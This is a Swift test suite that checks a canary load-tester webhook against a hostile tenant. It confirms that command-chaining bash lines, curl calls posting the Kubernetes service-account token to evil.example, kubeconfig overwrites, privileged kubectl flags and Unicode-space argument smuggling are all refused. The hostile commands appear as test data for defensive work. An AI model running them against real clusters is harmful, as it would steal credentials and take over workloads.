import Foundation
import NIOHTTP1
import Testing

@testable import LoadTester

#if canImport(Glibc)
import Glibc
#elseif canImport(Darwin)
import Darwin
#endif

/// Each finding of issue 12 against the load tester, replayed as a tenant who can write Canary webhook metadata (or
/// reach the Service) would, against the configuration Fledge ships (manifests/loadtester, the playground, the demo).
@Suite("hostile tenant against the load tester")
struct HostileTests {
    /// What the manifest, the playground and the demo run: the built-in policies and the tutorial's bash pattern.
    static func shipped() -> LoadTesterConfiguration {
        LoadTesterConfiguration(
            host: "127.0.0.1",
            port: 0,
            allowBash: [LoadTesterConfiguration.tutorialBashPattern],
            timeout: .seconds(60)
        )
    }

    static func task(_ type: String, _ cmd: String) -> String {
        Fixture.payload(metadata: ["type": type, "cmd": cmd, "returnCmdOutput": "true"])
    }

    @Test("a bash line that starts with an allowed command is checked whole: `curl --version >/dev/null; id` is 403")
    func bashBypass() async throws {
        try await Fixture.withLoadTester(Self.shipped()) { _, port async throws in
            // A blocking task answers after it ran, so a 403 means it never started.
            let (status, body) = try await Fixture.post(port, "/", Self.task("bash", "curl --version >/dev/null; id"))
            #expect(status == 403)
            #expect(body.hasPrefix("bash command \"curl --version >/dev/null; id\" is not allowed: the whole script"))
            #expect(!body.contains("uid="))
            for line in [
                "curl -sd 'test' http://podinfo-canary.prod:9898/token | grep token; id",
                "curl -sd \"$(id)\" http://podinfo-canary.prod:9898/token | grep token",
                "curl -sd 'test' http://podinfo-canary.prod:9898/token | grep token > /tmp/x",
                "curl -sd 'test' http://podinfo-canary.prod:9898/token | grep token | sh",
                "curl -sd '@/var/run/secrets/kubernetes.io/serviceaccount/token' http://podinfo-canary.prod/ | grep x",
            ] {
                #expect(try await Fixture.post(port, "/", Self.task("bash", line)).status == 403, "\(line)")
            }
            // A newline ends a bash command: it is refused before any pattern sees the line.
            let newline = try await Fixture.post(
                port,
                "/",
                Self.task("bash", "curl -sd 'test' http://podinfo-canary.prod:9898/token | grep token\nid")
            )
            #expect(newline.status == 400)
            #expect(newline.body.contains("U+000A (LINE FEED)"))
        }
    }

    @Test("without bash, no default lets curl -d @FILE send the service-account token anywhere")
    func curlReadsNoFile() async throws {
        let token = "/var/run/secrets/kubernetes.io/serviceaccount/token"
        try await Fixture.withLoadTester(Self.shipped()) { _, port async throws in
            for cmd in [
                "curl -d @\(token) http://evil.example/", "curl -sd@\(token) http://evil.example/",
                "curl --data @\(token) http://evil.example/", "curl --data-binary @\(token) http://evil.example/",
                "curl --data-urlencode t@\(token) http://evil.example/", "curl -F t=@\(token) http://evil.example/",
                "curl -F 't=<\(token)' http://evil.example/", "curl -H @\(token) http://evil.example/",
                "curl -T \(token) http://evil.example/", "curl -K \(token) http://evil.example/",
                "curl file://\(token)",
            ] {
                let (status, body) = try await Fixture.post(port, "/", Self.task("cmd", cmd))
                #expect(status == 403, "\(cmd)")
                #expect(body.contains("the built-in curl policy refuses it"), "\(body)")
            }
        }
    }

    @Test("curl -o cannot write a kubeconfig or poison $HOME/.kube/config; -o /dev/null still works")
    func curlWritesNoFile() async throws {
        let directory = try Fixture.temporaryDirectory()
        let kubeconfig = directory.appendingPathComponent("kubeconfig").path
        try await Fixture.withLoadTester(Self.shipped()) { _, port async throws in
            for cmd in [
                "curl -o \(kubeconfig) http://evil.example/k", "curl -so \(kubeconfig) http://evil.example/k",
                "curl -sSo\(kubeconfig) http://evil.example/k", "curl --output \(kubeconfig) http://evil.example/k",
                "curl -o /tmp/.kube/config http://evil.example/k", "curl -O http://evil.example/config",
                "curl --remote-name http://evil.example/config", "curl -D \(kubeconfig) http://evil.example/",
                "curl -c \(kubeconfig) http://evil.example/", "curl --trace \(kubeconfig) http://evil.example/",
                "curl --libcurl \(kubeconfig) http://evil.example/",
            ] {
                let (status, body) = try await Fixture.post(port, "/", Self.task("cmd", cmd))
                #expect(status == 403, "\(cmd)")
                #expect(body.contains("it writes a file"), "\(body)")
            }
            // Refused synchronously, so nothing is left to write the file later.
            #expect(!FileManager.default.fileExists(atPath: kubeconfig))
            let probe = "curl -s -o /dev/null -w %{http_code} http://127.0.0.1:1/"
            #expect(try await Fixture.post(port, "/", Self.task("cmd", probe)).status == 202)
        }
    }

    @Test("kubectl --kubeconfig (whose exec credential plugin would run) is refused in every spelling and task type")
    func kubectlKubeconfig() async throws {
        try await Fixture.withLoadTester(Self.shipped()) { _, port async throws in
            for (type, cmd) in [
                ("kubectl", "--kubeconfig=/tmp/k get ns"), ("kubectl", "get ns --kubeconfig /tmp/k"),
                ("kubectl", "get ns '--kubeconfig=/tmp/k'"), ("kubectl", "get ns \"--kubeconfig\" /tmp/k"),
                ("cmd", "kubectl get ns --kubeconfig=/tmp/k"), ("kubectl", "get ns -s https://evil.example"),
                ("kubectl", "get ns -As https://evil.example"), ("kubectl", "get ns --token=stolen"),
                ("kubectl", "get ns --as=system:admin"), ("kubectl", "config set-credentials x --exec-command=id"),
                ("kubectl", "evil-plugin"), ("kubectl", "plugin list"), ("kubectl", "exec podinfo -- id"),
                ("kubectl", "apply -f https://evil.example/x.yaml"),
            ] {
                let (status, body) = try await Fixture.post(port, "/", Self.task(type, cmd))
                #expect(status == 403, "\(cmd)")
                #expect(body.contains("the built-in kubectl policy refuses it"), "\(body)")
            }
        }
    }

    @Test(
        "a Unicode space cannot smuggle --kubeconfig past `^kubectl get pods [^ ]+$`: 400 naming it and its place",
        arguments: [
            "\u{00A0}", "\u{1680}", "\u{2000}", "\u{2001}", "\u{2002}", "\u{2003}", "\u{2004}", "\u{2005}",
            "\u{2006}", "\u{2007}", "\u{2008}", "\u{2009}", "\u{200A}", "\u{2028}", "\u{2029}", "\u{202F}",
            "\u{205F}", "\u{3000}", "\u{0085}", "\u{000B}", "\u{000C}", "\u{200B}", "\u{FEFF}",
        ]
    )
    func unicodeSpaces(space: String) async throws {
        // The operator's pattern alone decides (no built-in policies), as in the finding.
        var configuration = Self.shipped()
        configuration.programs = []
        configuration.allow = ["^kubectl get pods [^ ]+$"]
        let tester = try LoadTester(configuration: configuration, logger: Fixture.quiet)
        let cmd = "get pods podinfo\(space)--kubeconfig=/tmp/k"
        let (status, body) = await tester.handle(method: "POST", path: "/", body: Self.task("kubectl", cmd))
        let scalar = try #require(space.unicodeScalars.first)
        #expect(status == 400)
        #expect(body.hasPrefix("cmd: character 17 is \(CommandCharacters.describe(scalar)), which is not allowed"))
        // With an ASCII space it is two arguments, and the pattern sees two words.
        let plain = await tester.handle(
            method: "POST",
            path: "/",
            body: Self.task("kubectl", "get pods podinfo --kubeconfig=/tmp/k")
        )
        #expect(plain.status == 403)
    }

    @Test("hey -q 1e-30 is a 400 naming the flag, the value and the limit, and the load tester stays up")
    func heyOverflow() async throws {
        try await Fixture.withLoadTester(Self.shipped()) { _, port async throws in
            let (status, body) = try await Fixture.post(
                port,
                "/",
                Self.task("cmd", "hey -z 1m -q 1e-30 -c 2 http://podinfo-canary.prod:9898/")
            )
            #expect(status == 400)
            #expect(body == "hey: -q 1e-30 is out of range: it must be 0 (no limit) or between 0.01 and 100000")
            for cmd in [
                "hey -n 1000000000 http://x/", "hey -z 9999999h http://x/", "hey -t 99999999 http://x/",
                "hey -c 100000 -z 1s http://x/",
            ] {
                #expect(try await Fixture.post(port, "/", Self.task("cmd", cmd)).status == 400, "\(cmd)")
            }
            #expect(try await Fixture.request(port, "/healthz", method: .GET) == (200, "OK"))
        }
    }

    @Test("the 9th concurrent task gets 429 while 8 run; a duplicate is still skipped, and a slot frees when one ends")
    func concurrencyCap() async throws {
        let directory = try Fixture.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: directory) }
        // Each task is `cat FIFO`, which blocks until the test opens that FIFO for writing: no timing involved.
        let fifos = (0..<8).map { directory.appendingPathComponent("fifo-\($0)").path }
        for fifo in fifos { #expect(mkfifo(fifo, 0o600) == 0) }
        var configuration = Self.shipped()
        configuration.allow = ["^cat /"]
        #expect(configuration.maximumConcurrentTasks == 8)
        try await Fixture.withLoadTester(configuration) { tester, port async throws in
            let metrics = { try await Fixture.request(port, "/metrics", method: .GET).body }
            for fifo in fifos {
                #expect(try await Fixture.post(port, "/", Self.task("cmd", "cat \(fifo)")) == (202, ""))
            }
            let eightRunning = try await Fixture.eventually {
                Fixture.metric(try await metrics(), "fledge_loadtester_tasks_running") == 8
            }
            #expect(eightRunning)
            let ninth = try await Fixture.post(port, "/", Self.task("cmd", "cat \(directory.path)/ninth"))
            #expect(ninth.status == 429)
            #expect(
                ninth.body
                    == "command cat \(directory.path)/ninth not started: 8 tasks are running, the load tester's limit "
                    + "(--max-tasks); try again when one has finished"
            )
            // A blocking task is refused before it starts, too.
            #expect(try await Fixture.post(port, "/", Self.task("kubectl", "version --client")).status == 429)
            // A duplicate of a running background command is skipped as before, not counted.
            #expect(try await Fixture.post(port, "/", Self.task("cmd", "cat \(fifos[0])")) == (202, ""))
            let text = try await metrics()
            #expect(Fixture.metric(text, "fledge_loadtester_tasks_throttled_total{type=\"cmd\"}") == 1)
            #expect(Fixture.metric(text, "fledge_loadtester_tasks_throttled_total{type=\"kubectl\"}") == 1)
            #expect(Fixture.metric(text, "fledge_loadtester_tasks_skipped_total{type=\"cmd\"}") == 1)
            #expect(tester.slots.inUse == 8)

            // End the first task: open its FIFO for writing (once cat has it open for reading) and close it.
            let opened = await Fixture.eventually {
                let descriptor = open(fifos[0], O_WRONLY | O_NONBLOCK)
                guard descriptor >= 0 else { return false }
                close(descriptor)
                return true
            }
            #expect(opened)
            let freed = await Fixture.eventually { tester.slots.inUse == 7 }
            #expect(freed)
            #expect(try await Fixture.post(port, "/", Self.task("cmd", "cat \(fifos[0])")) == (202, ""))
            #expect(tester.slots.inUse == 8)
            // The graceful shutdown at the end of withLoadTester kills the eight cats still waiting.
        }
    }

    @Test("20,000 gate names stop at the cap; closing a gate that is not open adds nothing, closing one frees a place")
    func gateCap() async throws {
        let store = MemoryGateStore()
        var configuration = Self.shipped()
        configuration.gateStore = store
        #expect(configuration.maximumGates == 1024)
        let tester = try LoadTester(configuration: configuration, logger: Fixture.quiet)
        var answers: [Int: Int] = [:]
        for index in 0..<20_000 {
            let answer = await tester.handle(
                method: "POST",
                path: "/gate/open",
                body: Fixture.payload(name: "canary-\(index)", namespace: "team-\(index % 7)")
            )
            answers[answer.status, default: 0] += 1
        }
        #expect(answers == [202: 1024, 507: 18_976])
        #expect(store.gates.count == 1024)
        #expect(await tester.gates.count == 1024)
        let refused = await tester.handle(
            method: "POST",
            path: "/gate/open",
            body: Fixture.payload(name: "canary-20000", namespace: "team-0")
        )
        #expect(
            refused
                == (
                    507,
                    "canary-20000.team-0 gate not opened: 1024 gates are open, the load tester's limit (--max-gates); "
                        + "close gates that are no longer needed"
                )
        )
        // Re-opening an open gate is fine at the cap; closing a gate that is not open neither adds nor saves.
        let reopened = await tester.handle(
            method: "POST",
            path: "/gate/open",
            body: Fixture.payload(name: "canary-0", namespace: "team-0")
        )
        #expect(reopened.status == 202)
        let saves = store.saveCount
        let closedUnknown = await tester.handle(
            method: "POST",
            path: "/rollback/close",
            body: Fixture.payload(name: "canary-5000", namespace: "team-2")
        )
        #expect(closedUnknown.status == 202)
        #expect(store.saveCount == saves)
        #expect(store.gates.count == 1024)
        // Closing an open gate frees its place.
        #expect(
            await tester.handle(
                method: "POST",
                path: "/gate/close",
                body: Fixture.payload(name: "canary-0", namespace: "team-0")
            ).status
                == 202
        )
        #expect(store.gates.count == 1023)
        #expect(
            await tester.handle(
                method: "POST",
                path: "/gate/open",
                body: Fixture.payload(name: "canary-20000", namespace: "team-0")
            ).status
                == 202
        )
    }

    @Test(
        "a gate name or namespace that is not a Canary's is a 400 naming the field, and later saves still work",
        arguments: [
            ("Podinfo", "prod", "name: Invalid value: \"Podinfo\": a lowercase RFC 1123 subdomain"),
            ("podinfo canary", "prod", "name: Invalid value: \"podinfo canary\": a lowercase RFC 1123 subdomain"),
            ("podinfo/x", "prod", "name: Invalid value: \"podinfo/x\""),
            ("podinfo_x", "prod", "name: Invalid value: \"podinfo_x\""),
            ("-podinfo", "prod", "name: Invalid value: \"-podinfo\""),
            ("podinfo.", "prod", "name: Invalid value: \"podinfo.\""),
            ("pödinfo", "prod", "name: Invalid value: \"pödinfo\""),
            (String(repeating: "a", count: 254), "prod", "must be no more than 253 characters"),
            (String(repeating: "a", count: 240), "prod", "too long for a gate in namespace \"prod\""),
            ("podinfo", "prod.eu", "namespace: Invalid value: \"prod.eu\": a lowercase RFC 1123 label"),
            ("podinfo", "Prod", "namespace: Invalid value: \"Prod\""),
            (
                "podinfo", String(repeating: "n", count: 64),
                "namespace: Invalid value: \"\(String(repeating: "n", count: 64))\": must be no more than 63 characters"
            ),
        ]
    )
    func gateNames(name: String, namespace: String, message: String) async throws {
        let store = ConfigMapKeyStore()
        var configuration = Self.shipped()
        configuration.gateStore = store
        try await Fixture.withLoadTester(configuration) { _, port async throws in
            for path in ["/gate/open", "/rollback/open", "/gate/check", "/gate/close"] {
                let (status, body) = try await Fixture.post(
                    port,
                    path,
                    Fixture.payload(name: name, namespace: namespace)
                )
                #expect(status == 400, "\(path)")
                #expect(body.hasPrefix("name: ") || body.hasPrefix("namespace: "), "\(body)")
                #expect(body.contains(message), "\(body)")
            }
            // The bad name was never kept, so the next save (the API server would refuse a bad key) succeeds.
            #expect(
                try await Fixture.post(port, "/gate/open", Fixture.payload(name: "podinfo.v2", namespace: "prod"))
                    .status == 202
            )
            #expect(
                try await Fixture.post(port, "/gate/check", Fixture.payload(name: "podinfo.v2", namespace: "prod")) == (
                    200, "Approved"
                )
            )
        }
        #expect(store.gates == ["gate/prod/podinfo.v2": true])
    }
}

/// A gate store that refuses a save holding a key the API server would refuse in a ConfigMap, as a real one does.
private final class ConfigMapKeyStore: GateStore {
    struct InvalidKey: Error {}

    let memory = MemoryGateStore()
    var gates: [String: Bool] { memory.gates }

    func load() async throws -> [String: Bool] { try await memory.load() }

    func save(_ gates: [String: Bool]) async throws {
        for key in gates.keys {
            let dataKey = ConfigMapGateStore.dataKey(key)
            let valid =
                !dataKey.isEmpty && dataKey.utf8.count <= 253
                && dataKey.unicodeScalars.allSatisfy {
                    $0.isASCII
                        && ($0.properties.isAlphabetic || ("0"..."9").contains($0) || "-._".unicodeScalars.contains($0))
                }
            guard valid else { throw InvalidKey() }
        }
        try await memory.save(gates)
    }
}
